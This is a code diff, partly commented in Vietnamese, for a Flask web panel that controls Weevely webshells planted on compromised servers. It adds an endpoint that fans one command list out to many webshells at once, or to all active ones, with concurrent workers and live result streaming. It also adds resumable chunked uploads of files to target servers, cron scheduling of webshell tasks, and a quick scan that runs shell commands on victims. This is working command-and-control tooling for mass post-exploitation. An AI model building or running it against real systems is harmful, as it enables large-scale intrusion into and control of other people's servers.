@@ -17,6 +17,10 @@ from apps.weevely import blueprint
 from apps.models import ShellConnection, ShellCommand, ShellStatus, ShellType, db, DataFile, CronJob
 from apps.exceptions.exception import InvalidUsage
 from apps.weevely.module_executor import WeevelyModuleExecutor, WeevelyPayloadGenerator, CronWeevelyRunner
+from apps.weevely.batch_engine import BatchIdConflict, batch_registry
+from apps.weevely.socketio_events import batch_room
+from apps import socketio
+from apps.weevely.cron_scheduler import reschedule_job, unschedule_job
 import time
 import datetime as dt
 
@@ -32,6 +36,47 @@ except Exception as e:
 # Global storage for cron downloads (in production, use Redis or database)
 cron_downloads = {}
 
+def run_batch_streaming(run_batch, total, data):
+    """Chạy batch và stream kết quả từng command qua Socket.IO
+
+    Mỗi command xong được emit `weevely_batch_result` tới room `batch_<batch_id>`,
+    khi cả batch xong thì emit `weevely_batch_done`. Client có thể tự đặt
+    `batch_id` và join room trước khi gửi request.
+
+    Args:
+        run_batch: Hàm nhận callback on_result, thực thi batch và trả về dict tổng hợp
+        total: Tổng số command
+        data: Request data (`stream`: chạy nền và trả về ngay, `batch_id`)
+
+    Returns:
+        (result, batch_id) - result là None nếu batch chạy nền
+
+    Raises:
+        BatchIdConflict: `batch_id` không hợp lệ hoặc đang chạy
+    """
+    batch_id = batch_registry.create(data.get('batch_id'), total)
+    room = batch_room(batch_id)
+
+    def on_result(entry):
+        batch_registry.add_result(batch_id, entry)
+        socketio.emit('weevely_batch_result', dict(entry, batch_id=batch_id), room=room)
+
+    def job():
+        try:
+            result = run_batch(on_result)
+        except Exception as e:
+            print(f"[-] Batch {batch_id} failed: {str(e)}")
+            result = {'success': False, 'error': str(e)}
+        result['batch_id'] = batch_id
+        batch_registry.finish(batch_id, result)
+        socketio.emit('weevely_batch_done', {k: v for k, v in result.items() if k != 'results'}, room=room)
+        return result
+
+    if data.get('stream'):
+        socketio.start_background_task(job)
+        return None, batch_id
+    return job(), batch_id
+
 def extract_password_from_notes(notes):
     """Extract password from notes field"""
     if not notes:
@@ -904,7 +949,11 @@ def delete_weevely(weevely_id):
                     os.remove(file_path)
                 except OSError:
                     pass  # File might be in use or permission issue
-        
+
+        # Close pooled weevely workers still bound to this webshell
+        if executor and executor.session_pool and shell_conn.password:
+            executor.session_pool.evict(shell_conn.url, shell_conn.password)
+
         shell_conn.delete()
         
         return jsonify({
@@ -1051,13 +1100,21 @@ def batch_execute(weevely_id):
         if not commands:
             return jsonify({'status': 'error', 'message': 'Commands required'}), 400
         
-        result = executor.batch_execute(shell_conn.url, password, commands, delay)
+        result, batch_id = run_batch_streaming(
+            lambda on_result: executor.batch_execute(shell_conn.url, password, commands, delay,
+                                                     max_workers=data.get('max_workers'), on_result=on_result),
+            len(commands), data
+        )
+        if result is None:
+            return jsonify({'status': 'success', 'data': {'batch_id': batch_id, 'status': 'running'}}), 202
         
         return jsonify({
             'status': 'success',
             'data': result
         })
         
+    except BatchIdConflict as e:
+        return jsonify({'status': 'error', 'message': str(e)}), 409
     except Exception as e:
         return jsonify({'status': 'error', 'message': str(e)}), 500
 
@@ -1427,15 +1484,97 @@ def batch_execute_weevely():
                 'error': 'Missing required parameters: url, password, commands'
             }), 400
         
-        # Execute batch
-        result = executor.batch_execute(url, password, commands, delay)
+        # Execute batch, kết quả từng command được stream qua Socket.IO
+        result, batch_id = run_batch_streaming(
+            lambda on_result: executor.batch_execute(url, password, commands, delay,
+                                                     max_workers=data.get('max_workers'), on_result=on_result),
+            len(commands), data
+        )
+        if result is None:
+            return jsonify({'success': True, 'batch_id': batch_id, 'status': 'running'}), 202
         
         return jsonify(result)
         
+    except BatchIdConflict as e:
+        return jsonify({'success': False, 'error': str(e)}), 409
     except Exception as e:
         print(f"Error executing batch: {str(e)}")
         return jsonify({'success': False, 'error': str(e)}), 500
 
+@blueprint.route('/api/weevely/batch-fanout', methods=['POST'])
+def batch_fanout_weevely():
+    """Chạy cùng một danh sách command trên nhiều webshell
+
+    Body: {connection_ids: [...] hoặc all_active: true, commands: [...],
+           max_workers: 32, timeout: 60, stream: true, batch_id: optional}
+    """
+    try:
+        if not executor:
+            return jsonify({
+                'success': False,
+                'error': 'WeevelyModuleExecutor not initialized'
+            }), 500
+        
+        data = request.get_json()
+        if not data:
+            return jsonify({'success': False, 'error': 'No data provided'}), 400
+        
+        commands = data.get('commands', [])
+        if not commands:
+            return jsonify({'success': False, 'error': 'Commands required'}), 400
+        
+        if data.get('all_active'):
+            connections = ShellConnection.get_active_connections()
+        else:
+            connections = [ShellConnection.get_by_id(cid) for cid in data.get('connection_ids', [])]
+        
+        targets = []
+        skipped = []
+        for conn in connections:
+            if not conn or conn.shell_type != ShellType.WEBSHELL:
+                continue
+            password = conn.password or extract_password_from_notes(conn.notes)
+            if not conn.url or not password:
+                skipped.append(conn.connection_id)
+                continue
+            targets.append({'url': conn.url, 'password': password, 'target': conn.connection_id})
+        
+        if not targets:
+            return jsonify({'success': False, 'error': 'No weevely connection with url and password'}), 400
+        
+        max_workers = int(data.get('max_workers', 32))
+        timeout = int(data.get('timeout', 60))
+        result, batch_id = run_batch_streaming(
+            lambda on_result: executor.fanout_execute(targets, commands, max_workers=max_workers,
+                                                      timeout=timeout, on_result=on_result),
+            len(targets) * len(commands), data
+        )
+        if result is None:
+            return jsonify({
+                'success': True,
+                'batch_id': batch_id,
+                'status': 'running',
+                'targets': len(targets),
+                'skipped_connections': skipped
+            }), 202
+        
+        result['skipped_connections'] = skipped
+        return jsonify(result)
+        
+    except BatchIdConflict as e:
+        return jsonify({'success': False, 'error': str(e)}), 409
+    except Exception as e:
+        print(f"Error executing batch fan-out: {str(e)}")
+        return jsonify({'success': False, 'error': str(e)}), 500
+
+@blueprint.route('/api/weevely/batch/<batch_id>', methods=['GET'])
+def get_batch_status(batch_id):
+    """Trạng thái và các kết quả đã có của một batch"""
+    batch = batch_registry.get(batch_id)
+    if not batch:
+        return jsonify({'success': False, 'error': 'Batch not found'}), 404
+    return jsonify({'success': True, 'batch': batch})
+
 @blueprint.route('/api/weevely/session-info', methods=['POST'])
 def get_weevely_session_info():
     """Get comprehensive session information"""
@@ -1471,6 +1610,43 @@ def get_weevely_session_info():
         print(f"Error getting session info: {str(e)}")
         return jsonify({'success': False, 'error': str(e)}), 500
 
+# Temp copies of browser uploads; a failed chunked upload keeps its copy and
+# manifest so a retry resumes, abandoned ones are swept after UPLOAD_TEMP_TTL
+UPLOAD_TEMP_DIR = os.path.join(tempfile.gettempdir(), 'weevely_uploads')
+UPLOAD_TEMP_TTL = 24 * 3600
+
+
+def _remove_upload_temp(temp_path):
+    for path in (temp_path, temp_path + '.upload.manifest'):
+        try:
+            os.remove(path)
+        except OSError:
+            pass
+
+
+def _sweep_upload_temp(now=None):
+    """Remove temp copies and manifests untouched for UPLOAD_TEMP_TTL seconds"""
+    now = now or time.time()
+    try:
+        names = os.listdir(UPLOAD_TEMP_DIR)
+    except OSError:
+        return
+    for name in names:
+        path = os.path.join(UPLOAD_TEMP_DIR, name)
+        # a resumed upload refreshes the manifest, not the copy
+        base = path.split('.upload.manifest')[0]
+        try:
+            last_used = max(os.path.getmtime(p) for p in (path, base, base + '.upload.manifest')
+                            if os.path.exists(p))
+        except (OSError, ValueError):
+            continue
+        if now - last_used > UPLOAD_TEMP_TTL:
+            try:
+                os.remove(path)
+            except OSError:
+                pass
+
+
 @blueprint.route('/api/weevely/upload-file', methods=['POST'])
 def upload_file_to_target():
     """Upload file to target server via weevely"""
@@ -1485,7 +1661,7 @@ def upload_file_to_target():
         url = request.form.get('url')
         password = request.form.get('password')
         target_path = request.form.get('target_path')
-        vector = request.form.get('vector', 'file_put_contents')
+        vector = request.form.get('vector') or 'chunked'
         
         if not all([url, password, target_path]):
             return jsonify({
@@ -1507,37 +1683,52 @@ def upload_file_to_target():
                 'error': 'No file selected'
             }), 400
         
-        # Save file temporarily
+        # Stable temp path (per url/target/content) so a failed chunked upload
+        # can resume from its manifest on retry
         filename = secure_filename(file.filename)
-        temp_path = os.path.join(tempfile.gettempdir(), filename)
-        file.save(temp_path)
-        
-        try:
-            # Upload via weevely
+        content_digest = hashlib.sha256()
+        for block in iter(lambda: file.stream.read(1 << 20), b''):
+            content_digest.update(block)
+        file.stream.seek(0)
+        upload_key = hashlib.sha256(
+            f"{url}|{target_path}|{content_digest.hexdigest()}".encode()
+        ).hexdigest()[:16]
+        os.makedirs(UPLOAD_TEMP_DIR, exist_ok=True)
+        _sweep_upload_temp()
+        temp_path = os.path.join(UPLOAD_TEMP_DIR, f"{upload_key}_{filename}")
+        # Keep an existing copy untouched: its mtime is part of the manifest key
+        if not os.path.exists(temp_path):
+            file.save(temp_path)
+        
+        file_size = os.path.getsize(temp_path)
+        if vector == 'chunked':
+            # Streamed in verified chunks, resumable through the manifest
+            upload_command = f":file_upload -chunked {temp_path} {target_path}"
+            timeout = 600
+        else:
             upload_command = f":file_upload -vector {vector} {temp_path} {target_path}"
-            result = executor.execute_module(url, password, upload_command, 120)
-            
-            # Clean up temp file
-            os.remove(temp_path)
-            
-            if result['success']:
-                return jsonify({
-                    'success': True,
-                    'target_path': target_path,
-                    'file_size': os.path.getsize(temp_path) if os.path.exists(temp_path) else 0,
-                    'message': 'File uploaded successfully'
-                })
-            else:
-                return jsonify({
-                    'success': False,
-                    'error': result.get('error', 'Upload failed')
-                })
-                
-        except Exception as e:
-            # Clean up temp file on error
-            if os.path.exists(temp_path):
-                os.remove(temp_path)
-            raise e
+            timeout = 120
+        result = None
+        try:
+            result = executor.execute_module(url, password, upload_command, timeout)
+        finally:
+            # A failed chunked upload keeps its copy and manifest so a retry
+            # resumes, a one-shot vector upload has nothing to resume
+            if vector != 'chunked' or (result and result.get('success')):
+                _remove_upload_temp(temp_path)
+        
+        if result['success']:
+            return jsonify({
+                'success': True,
+                'target_path': target_path,
+                'file_size': file_size,
+                'message': 'File uploaded successfully'
+            })
+        else:
+            return jsonify({
+                'success': False,
+                'error': result.get('error', 'Upload failed')
+            })
         
     except Exception as e:
         print(f"Error uploading file: {str(e)}")
@@ -1576,6 +1767,7 @@ def create_cron_job():
         )
         
         cron_job.save()
+        reschedule_job(cron_job)
         
         return jsonify({
             'success': True,
@@ -1654,6 +1846,7 @@ def update_cron_job(job_id):
                 setattr(cron_job, field, data[field])
         
         cron_job.save()
+        reschedule_job(cron_job)
         
         return jsonify({
             'success': True,
@@ -1674,6 +1867,7 @@ def delete_cron_job(job_id):
             return jsonify({'success': False, 'error': 'Cron job not found'}), 404
         
         cron_job.delete()
+        unschedule_job(job_id)
         
         return jsonify({
             'success': True,
@@ -1694,6 +1888,7 @@ def toggle_cron_job(job_id):
         
         cron_job.is_active = not cron_job.is_active
         cron_job.save()
+        reschedule_job(cron_job)
         
         status = 'activated' if cron_job.is_active else 'deactivated'
         
@@ -1840,8 +2035,9 @@ def execute_upload_job(cron_job, job_params):
         if not source_path or not target_path:
             return {'success': False, 'error': 'Source and target paths required'}
         
-        command = f":file_upload {source_path} {target_path}"
-        result = executor.execute_module(weevely_conn.url, password, command)
+        command = CronWeevelyRunner._build_upload_command(job_params)
+        result = executor.execute_module(weevely_conn.url, password, command,
+                                         CronWeevelyRunner.DOWNLOAD_TIMEOUT)
         return result
         
     except Exception as e:
@@ -1981,13 +2177,21 @@ def quick_scan(weevely_id):
             ':shell_sh ps aux | head -10'
         ]
         
-        result = executor.batch_execute(shell_conn.url, password, commands, delay=0.3)
+        data = request.get_json(silent=True) or {}
+        result, batch_id = run_batch_streaming(
+            lambda on_result: executor.batch_execute(shell_conn.url, password, commands, delay=0.3, on_result=on_result),
+            len(commands), data
+        )
+        if result is None:
+            return jsonify({'status': 'success', 'data': {'batch_id': batch_id, 'status': 'running'}}), 202
         
         return jsonify({
             'status': 'success',
             'data': result
         })
         
+    except BatchIdConflict as e:
+        return jsonify({'status': 'error', 'message': str(e)}), 409
     except Exception as e:
         return jsonify({'status': 'error', 'message': str(e)}), 500
 